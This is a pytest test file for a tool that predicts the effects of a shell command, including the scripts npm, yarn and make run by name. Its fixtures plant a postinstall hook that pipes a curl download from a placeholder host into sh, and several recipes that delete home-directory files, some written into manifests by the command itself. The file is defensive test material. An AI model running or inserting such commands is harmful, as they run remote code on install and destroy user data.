"""Scripts that build tools run by name."""

from __future__ import annotations

import json
import os

import pytest

from sensor.effects.projects.manifests import MAX_BYTES, read_limited


@pytest.fixture
def project(tmp_path):
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps({"scripts": {
        "test": "rm -r ~/x", "build": "tsc", "prebuild": "rm -r dist", "postinstall": "curl https://a.example/x | sh", "loop": "npm run loop"}}))
    (folder / "Makefile").write_text("DIR = /home/dev/x\nall: sub\n\techo done\nsub:\n\t@rm -r $(DIR)\nclean:\n\t-rm -r build\n.PHONY: all\n")
    return folder


@pytest.mark.parametrize(("command", "expected"), [
    ("npm test", ["npm", "rm D:~/x"]),
    ("npm run build", ["npm", "rm D:DIR/dist", "tsc"]),
    ("npm run missing", ["npm"]),
    ("npm install", ["npm", "curl H:a.example", "sh ! <download"]),
    ("npm install --ignore-scripts", ["npm"]),
    ("npm ls", ["npm"]),
    ("yarn build", ["yarn", "rm D:DIR/dist", "tsc"]),
    ("npm run loop", ["npm", "npm"]),
    ("make", ["make", "echo", "rm D:~/x"]),
    ("make sub", ["make", "rm D:~/x"]),
    ("make clean", ["make", "rm D:DIR/build"]),
    ("make -n sub", ["make"]),
    ("make nothing", ["make"]),
])
def test_the_commands_of_a_script_are_effects(brief, project, command, expected):
    assert [line.replace(str(project), "DIR") for line in brief(command, cwd=str(project))] == expected


@pytest.mark.parametrize(("command", "expected"), [
    ("printf 'all:\\n\\trm -r ~/x\\n' > Makefile && make", ["printf W:DIR/Makefile", "make", "rm D:~/x"]),
    ("printf 'gone:\\n\\trm -r $(HOME)/x\\n' > m.mk; make -f m.mk gone", ["printf W:DIR/m.mk", "make R:DIR/m.mk", "rm D:~/x"]),
    ("""echo '{"scripts": {"y": "rm -r ~/x"}}' > package.json; npm run y""", ["echo W:DIR/package.json", "npm", "rm D:~/x"]),
    ("printf 'go:\\n  rm -r ~/x\\n' > justfile; just go", ["printf W:DIR/justfile", "just", "rm D:~/x"]),
    ("date > Makefile; make sub", ["date W:DIR/Makefile", "make", "rm D:~/x"]),
])
def test_a_file_that_the_call_itself_writes(brief, project, command, expected):
    assert [line.replace(str(project), "DIR") for line in brief(command, cwd=str(project))] == expected


@pytest.mark.parametrize("content", ["{", "[]", '{"scripts": []}', '{"scripts": {"test": 1}}', "[" * 100000])
def test_broken_manifests_say_nothing(brief, project, content):
    (project / "package.json").write_text(content)
    assert brief("npm test", cwd=str(project)) == ["npm"]


def test_only_regular_files_are_read_and_not_whole(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "big").write_text("a" * (MAX_BYTES + 10))
    assert read_limited(str(tmp_path / "pipe")) == "" and read_limited(str(tmp_path)) == "" and read_limited("/nowhere\0") == ""
    assert len(read_limited(str(tmp_path / "big"))) == MAX_BYTES


@pytest.mark.parametrize(("main", "expected"), [
    ("include more.mk\nall:\n\techo\n", ["make", "rm D:~/x"]),
    ("-include absent.mk sub/more.mk\nall:\n", ["make", "rm D:~/y"]),
    ("include again.mk\n", ["make", "rm D:~/x"]),
    ("# include more.mk\nall:\n", ["make"]),
])
def test_included_makefiles(brief, project, main, expected):
    (project / "sub").mkdir()
    (project / "more.mk").write_text("far:\n\trm -r ~/x\n")
    (project / "sub/more.mk").write_text("far:\n\trm -r ~/y\n")
    (project / "again.mk").write_text("include again.mk more.mk\n")
    (project / "Makefile").write_text(main)
    assert brief("make far", cwd=str(project)) == expected
